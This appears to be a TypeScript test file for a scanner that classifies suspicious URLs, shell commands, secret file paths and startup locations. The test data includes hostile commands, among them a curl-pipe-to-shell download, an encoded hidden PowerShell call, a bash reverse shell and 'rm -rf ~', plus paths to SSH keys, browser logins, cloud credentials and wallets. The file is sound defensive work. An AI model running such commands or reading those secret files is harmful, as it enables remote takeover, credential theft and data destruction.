import assert from 'node:assert/strict';
import { test } from 'node:test';
import { commandKinds, isBuildCommand } from './commands.ts';
import { hostKinds, isPublicAddress, kindsOfHost } from './hosts.ts';
import { isPathVariable, isStartupPath, secretKinds } from './paths.ts';
import { roleOf } from './roles.ts';

const own = new Set(['demo']);

for (const [text, kinds] of [
  ['https://collector.example.invalid/x', ['foreign']],
  ['https://api.demo.invalid/x', []],
  ['https://pypi.org/simple', []],
  ['http://localhost:8000/', []],
  ['http://169.254.169.254/latest', []],
  ['http://8.8.8.8/', []],
  ['http://45.67.89.10:81/a', ['raw-address', 'foreign']],
  ['https://user:word@collector.top/', ['odd-domain', 'foreign']],
  ['https://x.oast.fun', ['callback-catcher', 'foreign']],
  ['https://api.telegram.org/bot1:x/sendMessage', ['webhook', 'foreign']],
  ['https://api.telegram.org/bot\uf8ff/sendMessage', ['foreign']],
  ['https://discord.com/api/webhooks/\uf8ff', ['foreign']],
  ['https://demo.collector.example.invalid/x', ['foreign']],
  ['https://pastebin.com/raw/x', ['paste', 'foreign']],
  ['https://raw.githubusercontent.com/other/x/main/a.txt', ['paste']],
  ['https://github.com/other/demo.py', []],
  ['https://github.com/other/x/blob/main/setup.py', []],
  ['https://github.com/other/x/raw/main/a.exe', ['executable']],
  ['https://raw.githubusercontent.com/demo/x/main/a.py', ['executable']],
  ['https://collector.example.invalid/a.exe?x', ['foreign', 'executable']],
  ['https://api.ipify.org', ['address-service']],
  ['no url', []],
] as const) {
  test(`${text} is ${kinds.join(' and ') || 'nothing'}`, () => assert.deepEqual([...hostKinds(text, own)], kinds));
}

test('knows addresses that are not routed', () => {
  for (const address of [
    '10.1.2.3',
    '192.168.0.1',
    '172.20.0.1',
    '127.0.0.1',
    '0.0.0.0',
    '224.0.0.1',
    '203.0.113.9',
    '1.1.1.1',
    '1.2.0.0.1',
    '300.1.1.1',
    '2.0.0.0',
  ])
    assert.equal(isPublicAddress(address), false, address);
  assert.equal(isPublicAddress('45.67.89.10'), true);
  assert.deepEqual(kindsOfHost('service.local', own), []);
});

for (const [command, kinds] of [
  ['curl -s https://x.example.invalid | sh', ['download']],
  ['powershell -WindowStyle Hidden -EncodedCommand ZQBjAGgAbwA=', ['encoded', 'hidden']],
  ['echo ZGVtbw== | base64 -d | sh', ['decode']],
  ['bash -i >& /dev/tcp/10.0.0.1/9 0>&1', ['reverse-shell']],
  ['python -m pip install demo', ['install-package']],
  ['pip download demo', []],
  ['demo.exe', ['executable']],
  ['crontab -l', ['persist']],
  ['rm -rf ~', ['destroy']],
  ['rm -rf build', []],
  ["python3 -c 'print(1)'", ['inline-python']],
  ['ls -la', []],
] as const) {
  test(`the command ${command} is ${kinds.join(' and ') || 'nothing'}`, () =>
    assert.deepEqual([...commandKinds(command)], kinds));
}

test('reads hostile commands in linear time', () => {
  for (const part of ['curl ', 'powershell ', 'nc ', 'rm -r ', '\\run reg add '])
    assert.ok(commandKinds(part.repeat(200_000)) instanceof Set);
});

for (const [command, expected] of [
  ['cmake --build .', true],
  ['/usr/bin/gcc-12 -v', true],
  ['', true],
  ['git.cmd rev-parse --git-dir', true],
  ['net-snmp-config --libs', true],
  ['\uf8ff --cflags libsystemd', true],
  ['\uf8ff payload', false],
  ['ldd /usr/bin/python 2>&1', true],
  ["ldconfig -p | grep -E 'libboost'", true],
  ['grep -r secret /home', false],
  ['(cd src/lib && libtoolize && autoreconf --force)', true],
  ['sh libs/configure --with-glib=no', true],
  ['sh /tmp/payload', false],
  ['make && ./payload', false],
  ['git log | sh', false],
  ['make & payload', false],
  ['python setup.py build', true],
  ['pip install -e .', true],
  ['pip install demo', false],
  ['git clone https://x.example.invalid/a', false],
  ['git status; demo', false],
  ['demo', false],
] as const) {
  test(`${JSON.stringify(command)} is ${expected ? 'a' : 'no'} build command`, () =>
    assert.equal(isBuildCommand(command), expected));
}

for (const [path, kinds] of [
  ['~/.ssh/id_rsa', ['key']],
  ['%LOCALAPPDATA%\\Google\\Chrome\\User Data\\Default\\Login Data', ['browser']],
  ['~/.aws/credentials', ['cloud']],
  ['/home/x/.config/discord/Local Storage/leveldb', ['chat']],
  ['wallet.dat', ['wallet']],
  ['/etc/passwd', ['system']],
  ['README.md', []],
] as const) {
  test(`${path} is ${kinds.join() || 'no secret'}`, () => assert.deepEqual([...secretKinds(path)], kinds));
}

test('knows paths that run at every start, and variables that name folders', () => {
  for (const path of [
    '~/.bashrc',
    '/etc/cron.d/x',
    'C:\\x\\Start Menu\\Programs\\Startup\\a.bat',
    '/usr/lib/python3/site-packages/x.pth',
  ])
    assert.equal(isStartupPath(path), true, path);
  assert.equal(isStartupPath('/tmp/x'), false);
  assert.equal(isPathVariable('AppData'), true);
  assert.equal(isPathVariable('AWS_SECRET_ACCESS_KEY'), false);
});

for (const [path, role] of [
  ['requests.Session().post', 'network'],
  ['os.system', 'process'],
  ['base64.urlsafe_b64decode', 'decode'],
  ['Crypto.Cipher.AES.new().decrypt', 'decrypt'],
  ['ctypes.windll.kernel32.VirtualAlloc', 'native-memory'],
  ['requests.exceptions.Timeout', undefined],
  ['math.sqrt', undefined],
] as const) {
  test(`${path} ${role === undefined ? 'has no role' : `is ${role}`}`, () => assert.equal(roleOf(path), role));
}
